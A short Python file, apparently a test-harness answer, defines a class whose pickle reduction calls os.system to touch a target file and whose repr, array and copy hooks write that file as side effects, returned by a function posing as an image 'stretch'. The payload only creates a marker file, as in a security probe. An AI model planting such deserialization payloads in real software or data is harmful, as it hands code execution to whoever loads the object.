"""An object that runs a command when it is unpickled, and one when it is copied or shown."""

# /// attack
# held_by = "values"
# ///

# %% stretch_answer
import os


class Bait:
    def __reduce__(self):
        return os.system, ("touch " + TARGETS["touch"],)

    def __repr__(self):
        open(TARGETS["touch"], "w").close()
        return "bait"

    def __array__(self, *args, **kwargs):
        open(TARGETS["touch"], "w").close()
        raise ValueError("no array")

    __copy__ = __deepcopy__ = lambda self, *args: repr(self)


def stretch(image):
    return Bait()
